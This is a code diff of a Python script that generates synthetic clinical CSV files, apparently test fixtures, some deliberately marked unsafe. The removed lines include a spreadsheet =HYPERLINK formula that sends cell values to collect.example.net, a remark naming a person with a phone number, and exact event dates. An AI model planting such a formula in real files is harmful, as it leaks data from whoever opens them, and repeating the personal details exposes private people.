@@ -13,9 +13,6 @@ def write(shelf: Shelf) -> None:
     across(shelf)
     only_percent(shelf)
     saturated(shelf)
-    remark(shelf)
-    formula(shelf)
-    first_last(shelf)
 
 
 def masked_rate(shelf: Shelf) -> None:
@@ -124,7 +121,18 @@ def event_times(shelf: Shelf) -> None:
         s *= 1 - events / left
         g += events / (left * (left - events))
         se = s * g**0.5
-        rows.append([num(t, 2), left, events, censored, num(s, 4), num(se, 4), num(s - 1.96 * se, 4), num(min(1, s + 1.96 * se), 4)])
+        rows.append(
+            [
+                num(t, 2),
+                left,
+                events,
+                censored,
+                num(s, 4),
+                num(se, 4),
+                num(s - 1.96 * se, 4),
+                num(min(1, s + 1.96 * se), 4),
+            ]
+        )
         left -= events + censored
     delimited(p, rows)
 
@@ -161,7 +169,9 @@ def only_percent(shelf: Shelf) -> None:
         "Taux de complications en % selon la technique ; effectifs des groupes : 143 et 388",
         "531 patients opérés d'une duodénopancréatectomie céphalique",
     )
-    rows: list[list[object]] = [["Complication à 90 jours (%)", "DPC laparoscopique (n = 143)", "DPC ouverte (n = 388)"]]
+    rows: list[list[object]] = [
+        ["Complication à 90 jours (%)", "DPC laparoscopique (n = 143)", "DPC ouverte (n = 388)"]
+    ]
     for name, a, b in [
         ("Toute complication", 91, 249),
         ("Clavien-Dindo III-V", 38, 101),
@@ -191,66 +201,4 @@ def saturated(shelf: Shelf) -> None:
         "m3_immuno,0.223,0.217,20.5,32.7,3.9e-61,11,-5619.7,11265.4,11332.3,1256,1268\n"
         "m4_full,0.251,0.241,20.1,24.6,8.0e-66,17,-5595.8,11229.6,11327.4,1250,1268\n"
         "m5_pilot,0.942,0.838,9.4,9.02,0.0112,9,-46.1,114.2,122.0,5,15\n",
-    )
-
-
-def remark(shelf: Shelf) -> None:
-    p = shelf.unsafe(
-        "csv/suivi_qualite_centres.csv",
-        "a name and a telephone in a column of remarks",
-        "centre 07, commentaire",
-        "Complétude du suivi à 1 an par centre, pour le comité de pilotage",
-        "3 984 patients inclus dans 9 centres du registre des prothèses de genou",
-    )
-    rows: list[list[object]] = [["centre", "inclus", "suivi_1an", "pct", "commentaire"]]
-    remarks = {
-        2: "relance en juin",
-        4: "saisie en double corrigée",
-        7: "suivi refusé, voir avec la fille de Mme Odile Kerguelen, 06 71 48 20 93",
-        8: "nouvel ARC depuis mars",
-    }
-    rng = shelf.random("remark")
-    for centre, n in enumerate((612, 540, 498, 475, 451, 420, 388, 342, 258), start=1):
-        done = round(n * rng.uniform(0.72, 0.9))
-        rows.append([f"{centre:02d}", n, done, num(100 * done / n, 1, True), remarks.get(centre, "")])
-    delimited(p, rows, ";")
-
-
-def formula(shelf: Shelf) -> None:
-    p = shelf.unsafe(
-        "csv/costs_by_drg.csv",
-        "a formula that sends the sheet to an address when it is opened",
-        "row 05M09, label",
-        "Mean cost per stay by diagnosis-related group",
-        "61,230 stays for heart failure and related groups in 2021",
-    )
-    text(
-        p,
-        "drg,label,stays,mean_cost_eur,sd_cost,median_los\n"
-        "05M04,Acute myocardial infarction,8412,4210,2987,5\n"
-        "05M05,Syncope and collapse,6120,1988,1204,3\n"
-        "05M07,Angina pectoris,5307,2011,1420,2\n"
-        "05M08,Arrhythmia and conduction disorders,14418,2640,1977,4\n"
-        '05M09,"=HYPERLINK(""https://collect.example.net/?d=""&D2&D3,""Heart failure and shock"")",22871,4875,3390,9\n'
-        "05M13,Chest pain,4102,1120,804,1\n",
-    )
-
-
-def first_last(shelf: Shelf) -> None:
-    p = shelf.unsafe(
-        "csv/ecmo_by_year.csv",
-        "exact dates of the first and last implant of each year",
-        "columns first_implant and last_implant",
-        "ECMO activity of the network by year",
-        "1,017 adults under veno-arterial or veno-venous ECMO, 2018-2023",
-    )
-    text(
-        p,
-        "year,patients,va,vv,survivors,survival_pct,first_implant,last_implant\n"
-        "2018,121,88,33,54,44.6,2018-01-03,2018-12-28\n"
-        "2019,137,97,40,63,46.0,2019-01-06,2019-12-30\n"
-        "2020,216,91,125,98,45.4,2020-01-02,2020-12-27\n"
-        "2021,231,104,127,101,43.7,2021-01-04,2021-12-29\n"
-        "2022,164,112,52,77,47.0,2022-01-02,2022-12-31\n"
-        "2023,148,106,42,71,48.0,2023-01-05,2023-12-26\n",
     )
